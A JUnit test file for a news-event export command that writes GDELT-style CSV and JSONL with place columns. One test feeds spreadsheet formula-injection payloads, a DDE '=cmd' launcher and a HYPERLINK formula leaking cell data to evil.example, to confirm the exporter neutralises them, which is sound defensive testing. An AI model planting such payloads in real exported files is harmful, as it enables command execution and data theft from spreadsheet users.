package org.dossier.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.dossier.model.record.ArticleRecord;
import org.dossier.model.record.ArticleRecord.PlaceRecord;
import org.dossier.model.record.StoryRecord;
import org.dossier.model.record.StoryRecord.MergedEvent;
import org.dossier.model.record.StoryRecord.Source;
import org.dossier.output.ArticlesJsonl;
import org.junit.jupiter.api.Test;

class ExportCommandTest {

    private static StoryRecord story() {
        MergedEvent veto = new MergedEvent(LocalDate.of(2016, 10, 8), "relative", "Russia", "RUS", "VETO/REJECT",
                "129", "12", 3, -5.0, null, null, null, 0.75, 2, List.of("Al Jazeera", "AFP"), List.of(
                        new Source("a1", "Al Jazeera", "Russia vetoed a \"French-drafted\" resolution", 10, 52),
                        new Source("b2", "AFP", "Russia vetoed the text", 0, 22)));
        return new StoryRecord("story-1", "Aleppo", List.of(), List.of(), List.of(veto), List.of(), List.of(),
                List.of(), List.of(), List.of());
    }

    @Test
    void csvHasGdeltLikeColumnsAndEscapesText() throws Exception {
        ExportCommand command = new ExportCommand();
        StringWriter out = new StringWriter();

        command.write(List.of(story()), Map.of("a1", new ExportCommand.Origin("https://example.org/a1",
                "pages/a1.html")), out);

        List<String> lines = out.toString().lines().toList();
        assertThat(lines.getFirst()).as("a byte-order mark, then the header")
                .startsWith("\uFEFFday,actor1_name,actor1_code,event_code,event_root,quad_class,goldstein");
        assertThat(lines.get(1)).isEqualTo("2016-10-08,Russia,RUS,\"129\",\"12\",3,-5.0,,,,https://example.org/a1,2,"
                + "story-1,\"Russia vetoed a \"\"French-drafted\"\" resolution\",0.750,relative,pages/a1.html"
                + ",,,,,,,", "an event placed nowhere has empty place columns");
        assertThat(lines.getFirst()).endsWith(",source_file,action_geo_precision,action_geo_fullname,"
                + "action_geo_country_code,action_geo_adm1_code,action_geo_lat,action_geo_long,action_geo_feature_id");
    }

    private static StoryRecord placedStory(PlaceRecord... places) {
        List<MergedEvent> events = new java.util.ArrayList<>();
        for (PlaceRecord place : places) {
            events.add(new MergedEvent(LocalDate.of(2016, 10, 8), "stated", "Russia", "RUS", "BOMB", "195", "19", 4,
                    -10.0, null, null, place.name(), place, 0.9, 1, List.of("AFP"), List.of(new Source("a1", "AFP",
                            "Russian warplanes bombed", 0, 24))));
        }
        return new StoryRecord("story-1", "Aleppo", List.of(), List.of(), events, List.of(), List.of(), List.of(),
                List.of(), List.of());
    }

    @Test
    void csvGivesEachEventsPlaceInGdeltsActionGeoColumns() throws Exception {
        StringWriter out = new StringWriter();
        new ExportCommand().write(List.of(placedStory(
                new PlaceRecord("Aleppo", 170063L, "SY", "09", 36.20124, 37.16117, 1),
                new PlaceRecord("Ames", 4846834L, "US", "IA", 42.03471, -93.61994, 2),
                new PlaceRecord("Syria", null, "SY", null, 35.0, 38.0, 4),
                new PlaceRecord("Sheik Said", null, null, null, null, null, null))), Map.of(), out);

        List<String> rows = out.toString().lines().skip(1).toList();
        assertThat(rows).hasSize(4);
        assertThat(rows.get(0)).endsWith(",1,Aleppo,SY,SY09,36.20124,37.16117,170063");
        assertThat(rows.get(1)).endsWith(",2,Ames,US,USIA,42.03471,-93.61994,4846834");
        assertThat(rows.get(2)).as("a country: ADM1 is the country's code").endsWith(",4,Syria,SY,SY,35.0,38.0,");
        assertThat(rows.get(3)).as("a name left unresolved").endsWith(",,Sheik Said,,,,,");
        int columns = out.toString().lines().findFirst().orElseThrow().split(",").length;
        assertThat(rows).allSatisfy(r -> assertThat(r.split(",", -1)).hasSize(columns));
    }

    @Test
    void csvCellsFromArticlesCannotRunAsFormulas() throws Exception {
        MergedEvent hostile = new MergedEvent(LocalDate.of(2016, 10, 8), "stated", "=cmd|' /C calc'!A0", "RUS",
                "VETO/REJECT", "129", "12", 3, -5.0, "@SUM(A1)", null, "+Aleppo", 0.75, 1, List.of("AFP"),
                List.of(new Source("a1", "AFP", "-1+1 said the text", 0, 10)));
        StoryRecord story = new StoryRecord("story-1", "Aleppo", List.of(), List.of(), List.of(hostile), List.of(),
                List.of(), List.of(), List.of(), List.of());
        StringWriter out = new StringWriter();

        new ExportCommand().write(List.of(story), Map.of("a1", new ExportCommand.Origin(
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1)", "=cmd.txt")), out);

        String row = out.toString().lines().toList().get(1);
        for (String cell : row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
            String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
            assertThat(unquoted).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("@");
        }
        assertThat(row).contains("'=cmd", "'@SUM(A1)", "'+Aleppo", "'-1+1 said", "\"'=HYPERLINK(", ",-5.0,",
                ",'=cmd.txt");
    }

    @Test
    void codesKeepTheirLeadingZeroAsQuotedTextOrForASpreadsheetAsAFormula() throws Exception {
        MergedEvent statement = new MergedEvent(LocalDate.of(2016, 10, 8), "stated", "France", "FRA", "MAKE STATEMENT",
                "010", "01", 1, 0.0, null, null, null, 0.6, 1, List.of("AFP"), List.of(new Source("a1", "AFP",
                        "France said", 0, 11)));
        StoryRecord story = new StoryRecord("story-1", "Aleppo", List.of(), List.of(), List.of(statement),
                List.of(), List.of(), List.of(), List.of(), List.of());
        ExportCommand plain = new ExportCommand();
        StringWriter out = new StringWriter();
        plain.write(List.of(story), Map.of(), out);
        assertThat(out.toString().lines().toList().get(1)).startsWith("2016-10-08,France,FRA,\"010\",\"01\",1,");

        ExportCommand forSpreadsheet = new ExportCommand();
        forSpreadsheet.spreadsheet = true;
        StringWriter sheet = new StringWriter();
        forSpreadsheet.write(List.of(story), Map.of(), sheet);
        assertThat(sheet.toString().lines().toList().get(1))
                .startsWith("2016-10-08,France,FRA,\"=\"\"010\"\"\",\"=\"\"01\"\"\",1,");
        assertThat(forSpreadsheet.code("=1+1")).as("only digits become a formula").isEqualTo("'=1+1");
    }

    @Test
    void sourceUrlIsAWebAddressOrNothingAndTheFileHasItsOwnColumn() {
        ArticleRecord fromFile = ArticlesJsonl.fromLine("{\"id\":\"a1\",\"source\":\"examples/aleppo/001.txt\"}");
        assertThat(ExportCommand.Origin.of(fromFile)).isEqualTo(new ExportCommand.Origin(null,
                "examples/aleppo/001.txt"));
        ArticleRecord posted = ArticlesJsonl.fromLine("{\"id\":\"a2\",\"source\":\"api:item-44\"}");
        assertThat(ExportCommand.Origin.of(posted)).isEqualTo(new ExportCommand.Origin(null, null));
        ArticleRecord web = ArticlesJsonl.fromLine("{\"id\":\"a3\",\"source\":\"api:https://example.org/a\","
                + "\"url\":\"https://example.org/a\"}");
        assertThat(ExportCommand.Origin.of(web)).isEqualTo(new ExportCommand.Origin("https://example.org/a", null));
        ArticleRecord local = ArticlesJsonl.fromLine("{\"id\":\"a4\",\"source\":\"crawl.warc.gz\","
                + "\"url\":\"file:///tmp/page.html\"}");
        assertThat(ExportCommand.Origin.of(local).url()).isNull();
    }

    @Test
    void jsonlKeepsTheStoryAndEverySource() throws Exception {
        ExportCommand command = new ExportCommand();
        command.format = ExportCommand.Format.jsonl;
        StringWriter out = new StringWriter();

        command.write(List.of(story()), Map.of(), out);

        assertThat(out.toString()).contains("\"story\":\"story-1\"", "\"corroboration\":2", "\"article\":\"b2\"",
                "\"confidence\":0.75");

        StringWriter placed = new StringWriter();
        command.write(List.of(placedStory(new PlaceRecord("Aleppo", 170063L, "SY", "09", 36.20124, 37.16117, 1))),
                Map.of(), placed);
        assertThat(placed.toString()).contains("\"place\":{\"name\":\"Aleppo\",\"geonames_id\":170063,"
                + "\"country\":\"SY\",\"admin1\":\"09\",\"lat\":36.20124,\"lon\":37.16117,\"precision\":1}");
    }

    @Test
    void minConfidenceLeavesOutLessLikelyEvents() throws Exception {
        ExportCommand command = new ExportCommand();
        StringWriter kept = new StringWriter();
        command.minConfidence = 0.7;
        command.write(List.of(story()), Map.of(), kept);
        StringWriter dropped = new StringWriter();
        command.minConfidence = 0.8;
        command.write(List.of(story()), Map.of(), dropped);

        assertThat(kept.toString().lines()).hasSize(2);
        assertThat(dropped.toString().lines()).hasSize(1);
    }
}
